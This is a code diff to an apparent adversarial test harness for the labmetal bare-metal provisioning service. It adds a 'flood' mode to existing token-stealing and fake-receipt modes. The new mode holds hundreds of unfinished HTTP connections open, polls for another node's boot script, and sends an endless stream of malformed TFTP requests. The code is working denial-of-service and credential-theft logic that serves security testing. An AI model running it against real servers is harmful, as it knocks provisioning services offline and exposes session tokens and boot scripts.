@@ -10,15 +10,23 @@ Modes: ``steal`` only takes the token and prints it; ``reflect`` answers every c
 with HTTP 400 and a body that must never reach labmetal's last_error; ``fake-receipt``
 claims every command succeeded, with the image's public sha256 as its "receipt". Each
 event is printed on its own line (``token ...``, ``heartbeat 202``, ``command write_image``).
+
+``flood`` (with ``--tftp HOST:PORT``) attacks the service itself instead: it holds
+``--connections`` TCP connections to the API open with a request that never ends, asks
+for the victim's boot script in a loop (printing ``script sanboot`` if it ever gets the
+session's), and sends TFTP read requests as fast as it can (missing files, bad options,
+garbage), until it is stopped.
 """
 from __future__ import annotations
 
 import argparse
 import json
+import socket
 import sys
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlsplit
 
 import requests
 
@@ -88,15 +96,68 @@ def agent(mode: str, sha256: str, port: int) -> ThreadingHTTPServer:
     return server
 
 
+def flood(api: str, mac: str, tftp: str, connections: int) -> None:
+    parts = urlsplit(api)
+    held = []
+    for _ in range(connections):
+        try:
+            held.append(socket.create_connection((parts.hostname, parts.port), timeout=10))
+            held[-1].sendall(b"GET /v1 HTTP/1.1\r\nHost: labmetal\r\n")  # never ended
+        except OSError as error:
+            say(f"connection refused after {len(held)}: {type(error).__name__}")
+            break
+    say(f"holding {len(held)} connections")
+
+    def scripts() -> None:
+        url = f"{api}/boot/{mac.replace(':', '-')}.ipxe"
+        asked = 0
+        while True:
+            try:
+                text = requests.get(url, timeout=10).text
+                if "sanboot" in text:
+                    say("script sanboot")
+            except requests.RequestException:
+                pass
+            asked += 1
+            if asked % 100 == 0:
+                say(f"scripts {asked}")
+
+    threading.Thread(target=scripts, daemon=True).start()
+    host, port = tftp.rsplit(":", 1)
+    packets = [b"\x00\x01missing-file\x00octet\x00",
+               b"\x00\x01undionly.kpxe\x00octet\x00blksize\x00abc\x00",
+               b"\x00\x01" + b"a" * 60000 + b"\x00octet\x00",
+               b"\x00\x01undionly.kpxe\x00octet\x00",  # a real file, never acknowledged
+               b"\x00\x05garbage"]
+    sent = 0
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        while True:
+            for packet in packets:
+                try:
+                    udp.sendto(packet, (host, int(port)))
+                except OSError:
+                    pass
+                sent += 1
+            if sent % 5000 == 0:
+                say(f"tftp {sent}")
+            time.sleep(0.001)
+
+
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser()
     parser.add_argument("--api", required=True)
     parser.add_argument("--mac", required=True)
-    parser.add_argument("--mode", choices=("steal", "reflect", "fake-receipt"), required=True)
+    parser.add_argument("--mode", choices=("steal", "reflect", "fake-receipt", "flood"),
+                        required=True)
     parser.add_argument("--callback", default="")
     parser.add_argument("--sha256", default="0" * 64)
     parser.add_argument("--port", type=int, default=9999)
+    parser.add_argument("--tftp", default="")
+    parser.add_argument("--connections", type=int, default=300)
     args = parser.parse_args(argv)
+    if args.mode == "flood":
+        flood(args.api, args.mac, args.tftp, args.connections)
+        return 0
     node, token = steal(args.api, args.mac)
     say(f"token {node}")
     if args.mode == "steal":  # keeps the token; the test stops it
